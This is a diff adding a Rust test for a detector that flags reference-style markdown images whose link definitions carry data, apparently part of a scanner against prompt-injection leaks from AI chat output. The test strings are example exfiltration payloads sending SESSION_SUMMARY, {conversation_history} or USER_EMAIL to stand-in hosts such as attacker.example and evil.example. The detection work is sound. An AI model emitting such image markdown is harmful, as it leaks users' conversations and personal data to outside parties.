@@ -2222,6 +2222,30 @@ fn a_long_alt_text_or_url_does_not_hide_an_exfiltrating_image() {
 }
 
 #[test]
+fn a_reference_style_image_whose_definition_carries_data_is_exfiltration() {
+    for t in [
+        "![logo][ref]\n\n[ref]: https://attacker.example/img.png?data=SESSION_SUMMARY",
+        "Here is the chart ![chart][1] and more.\n\n[1]: https://evil.example/c.png?q={conversation_history}",
+        // (a collapsed reference; labels match without regard to case)
+        "![ref][]\n[REF]: https://x.example/p.png?d=USER_EMAIL",
+    ] {
+        let v = tool(t);
+        let f = v.findings.iter().find(|f| f.rule_id == "exfiltration.markdown_image");
+        let f = f.unwrap_or_else(|| panic!("{t:?}: {:?}", v.findings));
+        // the finding is the definition
+        assert!(t[f.span.start..f.span.end].trim_start().starts_with('['), "{t:?}");
+    }
+    for t in [
+        // a badge's fixed query, a link (not an image), no image using it
+        "See ![status][badge].\n\n[badge]: https://img.shields.io/badge/build-passing-green.svg?style=flat-square",
+        "Read [the docs][d].\n\n[d]: https://docs.example/c.png?q={query}",
+        "Intro.\n\n[ref]: https://x.example/p.png?d=USER_EMAIL",
+    ] {
+        assert!(!has_rule(t, "exfiltration.markdown_image"), "{t}");
+    }
+}
+
+#[test]
 fn an_image_url_with_a_fixed_query_is_not_exfiltration() {
     for t in [
         "[![Crates.io](https://img.shields.io/crates/v/clap?style=flat-square)](https://crates.io/crates/clap)",
